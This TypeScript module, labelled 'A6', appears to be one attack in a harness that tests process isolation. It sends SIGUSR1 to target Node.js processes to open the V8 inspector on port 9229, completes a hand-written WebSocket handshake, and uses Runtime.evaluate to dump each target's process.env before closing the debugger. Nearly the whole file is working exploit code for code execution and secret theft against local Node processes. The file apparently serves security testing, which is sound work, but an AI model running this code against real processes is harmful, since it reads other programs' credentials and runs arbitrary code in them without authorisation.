/** A6: SIGUSR1 opens the inspector of a Node process, and whoever connects to it runs code there. */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, World } from '../attack.ts';
import { Absent, attempt, type Yield } from '../attempt.ts';
import type { Attempt, Target } from '../brief.ts';
import { isVisible, targetsOf, unseen } from '../processes.ts';

const port = 9229;
const openMs = 500;
const freeMs = 2000;
const answerMs = 1500;

/**
 * A conversation with the port.
 * @param next the bytes to send after what was received so far, or `null` when that is enough
 * @returns what was received by its end or the deadline; `null` when nobody listens
 */
function converse(next: (received: string) => Buffer | string | null): Promise<string | null> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let received = '';
    const end = (result: string | null): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => end(received), answerMs);
    const step = (): void => {
      const bytes = next(received);
      if (bytes === null) end(received);
      else if (bytes.length > 0) socket.write(bytes);
    };
    socket.on('error', () => end(null));
    socket.on('close', () => end(received));
    socket.on('connect', step);
    socket.setEncoding('latin1').on('data', (chunk: string) => {
      received += chunk;
      step();
    });
  });
}

function head(path: string, ...more: readonly string[]): string {
  return [`GET ${path} HTTP/1.1`, `Host: 127.0.0.1:${port}`, ...more, '', ''].join('\r\n');
}

/** What can be debugged there, as JSON. */
function list(): Promise<string | null> {
  let asked = false;
  return converse((received) => {
    if (asked) return /\]\s*$/.test(received) ? null : '';
    asked = true;
    return head('/json/list');
  });
}

/** One masked text frame of RFC 6455, under 64 KiB. */
function textFrame(text: string): Buffer {
  const payload = Buffer.from(text);
  const mask = randomBytes(4);
  const head = Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
  return Buffer.concat([head, mask, payload.map((byte, index) => byte ^ (mask[index % 4] as number))]);
}

/** Evaluates an expression in the process behind the port; the raw answer. */
async function evaluate(path: string, expression: string): Promise<string> {
  const params = { expression, returnByValue: true };
  const steps = [
    head(
      path,
      'Upgrade: websocket',
      'Connection: Upgrade',
      'Sec-WebSocket-Version: 13',
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    ),
    textFrame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params })),
  ];
  const answer = await converse((received) => {
    if (received.includes('"id":1')) return null;
    // The frame only after the upgrade: the server would take it for the rest of the request.
    return (steps.length === 2 || received.includes('\r\n\r\n') ? steps.shift() : undefined) ?? '';
  });
  return answer ?? '';
}

const expression = 'JSON.stringify(process.env)';
const closing = 'setImmediate(() => process._debugEnd()), 0';

async function until(condition: () => Promise<boolean>, milliseconds: number): Promise<boolean> {
  const deadline = performance.now() + milliseconds;
  while (performance.now() < deadline) {
    if (await condition()) return true;
    await sleep(20);
  }
  return false;
}

/** Whether the list is the target's own: another program may have opened the same port. */
function isOf({ pid }: Target, listed: string): boolean {
  if (listed.includes(`node[${pid}]`)) return true;
  const [, url = ''] = /"url": "file:\/\/([^"]+)"/.exec(listed) ?? [];
  return url !== '' && readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').includes(url);
}

async function openInspector(target: Target): Promise<Yield> {
  if (!isVisible(target)) return unseen;
  const taken = new Absent(`port ${port} is in use by another program`);
  if (!(await until(async () => (await list()) === null, freeMs))) throw taken;
  process.kill(target.pid, 'SIGUSR1');
  let listed = '';
  const opened = await until(async () => {
    listed = (await list()) ?? '';
    return listed.includes('webSocketDebuggerUrl');
  }, openMs);
  if (!opened) return { refused: 'signalled, and no inspector opened' };
  if (!isOf(target, listed)) throw taken;
  const path = /"webSocketDebuggerUrl": "ws:\/\/[^/]+([^"]+)"/.exec(listed)?.[1] ?? '/';
  const shows = await evaluate(path, expression);
  if (!shows.includes('"id":1')) throw new Error('the inspector opened and did not answer');
  await evaluate(path, closing);
  return { opened: 'evaluated code in it', shows };
}

async function inspect({ brief, ask }: World): Promise<readonly Attempt[]> {
  const { targets } = await ask('victims');
  const attempts: Attempt[] = [];
  for (const target of [...targetsOf(brief, 'daemon', 'command'), ...targets])
    if (target.node)
      attempts.push(await attempt(`SIGUSR1 to ${target.name}, inspector`, () => openInspector(target)));
  return attempts;
}

export const inspector: readonly Attack[] = [{ number: 'A6', name: 'inspector', alone: true, run: inspect }];
